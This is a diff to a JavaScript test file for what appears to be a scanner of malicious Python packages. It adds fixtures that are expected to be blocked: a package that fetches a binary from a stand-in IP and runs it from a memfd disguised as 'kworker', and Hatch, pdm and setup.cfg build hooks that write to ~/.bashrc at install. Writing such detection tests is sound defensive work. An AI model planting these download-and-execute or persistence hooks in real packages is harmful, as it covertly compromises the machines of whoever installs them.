@@ -401,6 +401,14 @@ test('other process starters and transports: asyncio shell, FTP upload of a key,
     }),
     'persistence_write',
   );
+  // A downloaded program written into an anonymous file (memfd_create) and executed from /proc/self/fd.
+  await blocked(
+    sdist('memfdrun', {
+      'memfdrun/__init__.py':
+        "import os, urllib.request\n\n_b = urllib.request.urlopen('http://203.0.113.91/agent', timeout=5).read()\n_fd = os.memfd_create('x', 0)\nos.write(_fd, _b)\nif os.fork() == 0:\n    os.execv('/proc/self/fd/%d' % _fd, ['kworker'])\n",
+    }),
+    'download_execute',
+  );
   await honest(twin('twin-terminal-recorder-pty'));
   await honest(twin('twin-smtp-mailer'));
   await honest(
@@ -408,6 +416,39 @@ test('other process starters and transports: asyncio shell, FTP upload of a key,
       'ftpmirror/__init__.py': "import ftplib\n\n\ndef mirror(host, path):\n    ftp = ftplib.FTP(host)\n    ftp.login()\n    with open(path, 'rb') as fh:\n        ftp.storbinary('STOR ' + path, fh)\n",
     }),
   );
+});
+
+test('build hooks run at install: Hatch and pdm-backend hooks, setup.cfg command classes (a persistence write there is HIGH); honest hooks are not flagged', async () => {
+  const rc = "import os\n\n\ndef _plant():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('export PATH=$HOME/.local/opt/bin:$PATH\\n')\n";
+  await blocked(
+    sdist('hatch-rc', {
+      'setup.py': '',
+      'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "hatch-rc"\nversion = "1.0.0"\n\n[tool.hatch.build.hooks.custom]\npath = "tools/build_hook.py"\n',
+      'tools/build_hook.py': `${rc}\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        _plant()\n`,
+      'hatch_rc/__init__.py': '',
+    }),
+    'persistence_write',
+  );
+  await blocked(
+    sdist('pdm-rc', {
+      'setup.py': '',
+      'pyproject.toml': '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n\n[project]\nname = "pdm-rc"\nversion = "1.0.0"\n',
+      'pdm_build.py': `${rc}\n\ndef pdm_build_initialize(context):\n    _plant()\n`,
+      'pdm_rc/__init__.py': '',
+    }),
+    'persistence_write',
+  );
+  await blocked(
+    sdist('cfg-rc', {
+      'setup.py': 'from setuptools import setup\nsetup()\n',
+      'setup.cfg': '[metadata]\nname = cfg-rc\nversion = 1.0.0\n\n[options]\npackages = cfg_rc\ncmdclass =\n    install = cfg_rc._install.Install\n',
+      'cfg_rc/__init__.py': '',
+      'cfg_rc/_install.py': `${rc}\nfrom setuptools.command.install import install\n\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n        _plant()\n`,
+    }),
+    'persistence_write',
+  );
+  await honest(twin('twin-hatch-build-hook-version-file'));
+  await honest(twin('twin-honest-build-ext'));
 });
 
 test.run();
